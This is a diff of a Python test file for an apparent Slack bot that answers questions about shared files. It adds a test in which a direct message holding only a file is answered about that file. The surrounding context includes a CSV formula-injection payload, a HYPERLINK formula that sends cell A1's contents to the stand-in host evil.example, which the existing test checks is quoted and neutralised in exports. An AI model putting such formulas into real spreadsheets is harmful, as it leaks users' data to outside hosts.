@@ -207,3 +207,15 @@ async def test_a_csv_with_formula_injection_stays_data_and_is_quoted_in_the_expo
         assert lines[1] == '0,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
         assert not any(cell.startswith(("=", "+", "@")) for line in lines
                        for cell in line.split(","))  # fmt: skip
+
+
+async def test_a_file_alone_in_a_dm_is_a_question_about_it(tmp_path: Path) -> None:
+    """A DM that is only a file (``file_share``, no text) is answered about the file."""
+    async with running_bot(tmp_path, ["It has 3 rows."], files=store(tmp_path)) as h:
+        shared = h.fake.share_file("sales.csv", SALES, user="U1")
+        await h.event({"type": "message", "subtype": "file_share", "user": "U1", "text": "",
+                       "ts": "200.000100", "channel": "D1", "channel_type": "im",
+                       "files": [shared]})  # fmt: skip
+        await h.idle()
+        assert h.llm_questions()[0].lstrip().startswith("[Files shared with this message")
+        assert "It has 3 rows." in [m.text for m in h.fake.visible("D1")]
